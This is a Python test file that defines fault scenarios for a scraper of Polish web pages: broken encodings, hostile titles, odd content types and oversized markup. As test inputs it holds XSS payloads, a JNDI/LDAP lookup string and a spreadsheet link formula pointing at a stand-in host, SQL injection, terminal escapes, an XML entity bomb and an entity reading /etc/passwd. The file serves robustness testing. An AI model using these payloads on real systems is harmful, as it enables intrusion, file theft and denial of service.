"""The chapter of encodings and hostile text."""

# fmt: off
# A table, laid out by hand.

from collections.abc import Callable

from e2e_pages import page, parp_article

from faults.model import OWN_ROWS, own_list
from faults.scenario import CARD, LIST, ROBOTS, Given, Page, degraded, spoken, survived
from faults.tricks import coded, made, raw, rows
from monitor.standin import Answer

_LETTERS = "ąćęłńóśźżĄĆĘŁŃÓŚŹŻ"
_BARE = str.maketrans(_LETTERS, "acelnoszzACELNOSZZ")


def _spoilt(change: Callable[[str], str]) -> Callable[[Given], Page]:
    """The rows of a list with their text changed."""
    return rows(lambda there: [change(row) for row in there])


def _twice(charset: str) -> Callable[[str], str]:
    """Text whose UTF-8 was once read as `charset` and stored so."""
    return lambda text: "".join(
        letter.encode().decode(charset,
        errors="replace") if letter in _LETTERS else letter for letter in text
    )


_CHARSETS = (
    survived("cp1250", "windows-1250, declared nowhere", "register", {LIST: coded("cp1250")}),
    survived("cp1250-as-utf8", "windows-1250 declared as UTF-8 in header and page", "own",
             {LIST: coded("cp1250", "utf-8", "utf-8")}),
    survived("latin2", "ISO-8859-2, declared nowhere", "register", {LIST: coded("iso8859-2")}),
    survived("latin2-as-utf8", "ISO-8859-2 declared as UTF-8", "calls",
             {LIST: coded("iso8859-2", "utf-8")}),
    survived("utf8-as-latin1", "UTF-8 declared as ISO-8859-1", "register",
             {LIST: coded("utf-8", "iso-8859-1")}),
    survived("utf8-as-cp1250", "UTF-8 declared as windows-1250, with a byte order mark", "own",
             {LIST: coded("utf-8-sig", "windows-1250")}),
    survived("utf16", "UTF-16 with a byte order mark", "register", {LIST: coded("utf-16")}),
    survived("utf16-bare", "UTF-16 without a mark, declared as UTF-8", "own",
             {LIST: coded("utf-16-le", "utf-8")}),
    survived("charset-unknown", "UTF-8 declared as a charset that does not exist", "news",
             {LIST: coded("utf-8", "x-klastry-9")}),
    degraded("ebcdic", "A charset no page in Polish was ever in", "register",
             {LIST: made(lambda text: text.encode("cp1140", "replace"))}, "refused decode"),
    degraded("utf8-cut-letter", "UTF-8 with half of a letter", "own",
             {LIST: made(lambda text: text.encode().replace("ł".encode(), b"\xc5", 1))}, "refused decode"),
    degraded("two-charsets", "UTF-8 with rows in windows-1250", "register",
             {LIST: made(lambda text: text.encode().replace("ó".encode(), "ó".encode("cp1250"))
                         .replace("ś".encode(), "ś".encode("cp1250")))}, "refused decode"),
    degraded("mojibake-cp1250", "UTF-8 stored as if it were windows-1250, in every name", "register",
             {LIST: _spoilt(_twice("cp1250"))}, "refused decode"),
    degraded("mojibake-latin1", "UTF-8 stored as if it were ISO-8859-1", "own",
             {LIST: _spoilt(_twice("latin-1"))},
             "refused decode"),
    degraded("mojibake-one-row", "One name only is mojibake", "register",
             {LIST: rows(lambda there: [*there[:-1], _twice("cp1250")(there[-1])])}, "refused decode"),
    degraded("replacement-letters", "U+FFFD for every Polish letter", "news",
             {LIST: _spoilt(lambda text: "".join("\ufffd" if letter in _LETTERS else letter
             for letter in text))},
             "refused decode"),
    degraded("replacement-entities", "&amp;#65533; for every Polish letter", "register",
             {LIST: _spoilt(lambda text: "".join("&#65533;" if letter in _LETTERS else letter
             for letter in text))},
             "refused decode"),
    degraded("question-marks", "A question mark for every Polish letter", "own",
             {LIST: _spoilt(lambda text: "".join("?" if letter in _LETTERS else letter
             for letter in text))},
             "refused decode"),
    degraded("bare-letters", "Polish letters without their tails", "own",
             {LIST: _spoilt(lambda text: text.translate(_BARE))}, "refused decode"),
    degraded("entities-shown", "Letters as entities that were escaped once more", "own",
             {LIST: _spoilt(lambda text: "".join(f"&amp;#{ord(letter)};" if letter in _LETTERS else letter
                                                 for letter in text))}, "refused decode"),
    survived("entities", "Every Polish letter an entity", "register",
             {LIST: _spoilt(lambda text: "".join(f"&#x{ord(letter):x};" if letter in _LETTERS else letter
                                                 for letter in text))}, afterwards="unchanged"),
    survived("decomposed", "Letters and their accents apart (NFD)", "register",
             {LIST: made(lambda text: text.replace("ó", "o\u0301").replace("ś", "s\u0301").replace("ń",
             "n\u0301"))}),
    survived("invisible", "Soft hyphens, zero-width spaces, directions inside names", "register",
             {LIST: made(lambda text: text.replace("Klaster", "Kla\u00adst\u200ber\u202e"))}),
    survived("nul-bytes", "NUL bytes between the tags", "own",
             {LIST: made(lambda text: text.replace("><", ">\0<"))}),
)

_HOSTILE = (
    "Klastry\x0b\x1b[31m\x07 i firmy",
    "]]&gt;&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt; dwa razy",
    "&lt;a href=\"javascript:alert(1)\" onclick=\"x()\"&gt;tu&lt;/a&gt;",
    "=HYPERLINK(\"http://zle.test\";\"kliknij\")",
    "+48 22 000 00 00", "-1+1|cmd", "@SUMA(A1:A9)",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://zle.test/a} %(x)s %n",
    "Robert'); DROP TABLE spell;--",
    "\u202eod prawej\u202c do lewej \u2066a\u2069",
    "Emotikony 🏭🇵🇱 i \U0001d4d0\U0001d4e1 pismo",
    "BEGIN:VEVENT\\nSUMMARY:nie\r\nEND:VEVENT; a, b",
    "linia\u2028separatorów\u2029i koniec",
)


def _hostile_rows(given: Given) -> Page:
    return own_list({**dict(enumerate(_HOSTILE, 10)), **OWN_ROWS})


_HARM = (
    spoken("hostile-titles", "Titles with markup, scripts, formulas, templates, SQL, escapes, directions",
             "own",
           {LIST: _hostile_rows}, told=len(_HOSTILE)),
    spoken("hostile-article", "An article whose text is a web of scripts and handlers", "news",
           {CARD: parp_article("11 listopada 2026 r.", "Klastry spotkały się w Łodzi").replace(
               "Treść wiadomości.", "Tekst <script>alert(1)</script><img src=x onerror=alert(1)>"
               '<svg onload=alert(1)><a href="javascript:alert(1)">tu</a><style>*{}</style>'
               " &lt;script&gt;2&lt;/script&gt;")},
           told=1),
    survived("script-links", "Names that link to a script: the names are read, the links are not",
             "register",
             {LIST: _spoilt(lambda row: row.replace("<li>", '<li><a href=" javascript:alert(1)">', 1)
                            .replace(", rep", "</a>, rep", 1))}),
    degraded("script-link", "A row whose only link is a script", "own",
             {LIST: made(lambda text: text.replace('href="/nabory/3"', 'href="javascript:otworz(3)"'))},
             "refused layout"),
    degraded("endless-title", "A title of a megabyte", "own",
             {LIST: made(lambda text: text.replace("Źródła dla gmin", "Źródła " * 150_000))},
             "refused layout"),
    degraded("escapes-in-notice", "A block page whose title speaks to terminals", "register",
             {LIST: page("Request Rejected\x1b]0;zle\x07\x1b[2J", "<h1>Request\nRejected \x1b[31m</h1>")},
             "refused blocked-page"),
    degraded("escapes-in-headers", "Headers that speak to terminals", "own",
             {LIST: lambda given: raw("HTTP/1.1 200 OK\nContent-Encoding: \x1b[31mzle\x1b[0m\n"
                                      f"Content-Length: {len(given.page.encode())}", given.page.encode())},
             "refused decode"),
    degraded("escapes-in-location", "A redirect to an address with escapes", "register",
             {LIST: raw("HTTP/1.1 302 Found\nLocation: http://\x1b[31mzle.test/%0d%0a\nContent-Length: 0")},
             "failed redirect"),
    degraded("escapes-in-robots", "A robots.txt full of escapes that forbids all", "news",
             {ROBOTS: Answer(200, {"Content-Type": "text/plain"},
             b"\x1b[2JUser-agent: x\n\nUser-agent: *\nDisallow: /\n")},
             "failed robots-disallowed", asks=0),
)

_TYPES = (
    survived("no-type", "HTML without a content type", "register",
             {LIST: lambda given: Answer(200, {}, given.page.encode())}),
    survived("plain-type", "HTML sent as plain text", "news", {LIST: made(str, Content_Type="text/plain")}),
    survived("pdf-type", "HTML sent as a PDF", "own", {LIST: made(str, Content_Type="application/pdf")}),
    survived("image-type", "HTML sent as an image, to be saved as a file", "calls",
             {LIST: made(str, Content_Type="image/png",
             Content_Disposition='attachment; filename="a.exe"')}),
    survived("garbage-type", "A content type that is garbage", "register",
             {LIST: made(str, Content_Type="\x01;;;=")}),
    survived("xhtml", "XHTML with a declaration and an outer DTD: nothing fetched", "own",
             {LIST: made(lambda text:
             '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD '
                         'XHTML 1.0 Strict//EN" "http://zle.test/xhtml1.dtd">' + text.partition("\n")[2])}),
    degraded("entity-bomb", "Entities that would grow to gigabytes", "register",
             {LIST: made(lambda text: "<!DOCTYPE html [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
                 f"<!ENTITY {chr(n)} '{f'&{chr(n - 1)};' * 10}'>" for n in range(98, 122)) + "]>" + text)},
                 "refused type"),
    degraded("outer-entity", "An entity that reads a file", "own",
             {LIST: made(lambda text: "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
             + text.replace(
                 "Zielone święto", "&x;"))}, "refused type"),
    degraded("plain-text", "Plain text, no markup at all", "register", {LIST: Answer(
        200, {"Content-Type": "text/plain"}, b"Krajowe Klastry Kluczowe\n" * 40)},
        "refused not-whole"),
)

_HEAVY = {"crowd": "heavy"}
_MB = 1024 * 1024


def _grown(inside: Callable[[], str]) -> Callable[[Given], Page]:
    return made(lambda text: text.replace("</body>", f"{inside()}</body>"))


_SIZES = (
    degraded("nested-tags", "50,000 nested tags", "register",
             {LIST: _grown(lambda: "<div>" * 50_000 + "</div>" * 50_000)},
             "failed too-large", **_HEAVY),
    degraded("nested-rows", "Two hundred rows, one in another, around megabytes of text", "register",
             {LIST: made(lambda text: text.replace("</li>", "<ul><li>" * 200 + "słowo " * 350_000
             + "</li></ul>" * 200 + "</li>", 1))}, "refused layout", **_HEAVY),
    degraded("nested-open", "20,000 tags that are never closed", "own",
             {LIST: made(lambda text: text.replace("<h1>", "<b><i>" * 10_000 + "<h1>"))}, "refused layout",
             **_HEAVY),
    degraded("wide-page", "Millions of tags side by side", "news",
             {LIST: _grown(lambda: "<b>x</b>" * 400_000)},
             "failed too-large", **_HEAVY),
    survived("long-line", "A line of four megabytes", "register",
             {LIST: _grown(lambda: "<p>" + "słowo " * 600_000 + "</p>")},
             **_HEAVY),
    survived("long-attribute", "An attribute of four megabytes", "own",
             {LIST: _grown(lambda: f'<p title="{"a" * 4 * _MB}">x</p>')}, **_HEAVY),
    survived("many-attributes", "A tag with a hundred thousand attributes", "register",
             {LIST: _grown(lambda: "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x</p>")},
             **_HEAVY),
    degraded("many-comments", "Half a million comments", "own",
             {LIST: _grown(lambda: "<!--x-->" * 500_000)},
             "failed too-large", **_HEAVY),
    degraded("open-comments", "Comments that are never closed, by the hundred thousand", "register",
             {LIST: _grown(lambda: "<!-- " * 900_000)}, "refused not-whole", **_HEAVY),
    degraded("open-scripts", "Scripts that are never closed, by the hundred thousand", "news",
             {LIST: _grown(lambda: "<script " * 500_000)}, "refused not-whole", **_HEAVY),
    survived("many-entities", "Half a million entities, known and unknown", "own",
             {LIST: _grown(lambda: "<p>" + "&amp;&nbsp;&nie;&" * 150_000 + "</p>")}, **_HEAVY),
    survived("many-spaces", "Four megabytes of blanks", "register",
             {LIST: _grown(lambda: " \n\t" * 1_400_000)}, **_HEAVY),
    degraded("many-files", "Fifty thousand attachments", "register",
             {LIST: made(lambda text: text.replace("</article>", "".join(
                 f'<a class="file-download" href="/attachment/{n}">Plik {n}</a>' for n in range(50_000))
                 + "</article>"))},
             "failed too-large", **_HEAVY),
)

SCENARIOS = (*_CHARSETS, *_HARM, *_TYPES, *_SIZES)
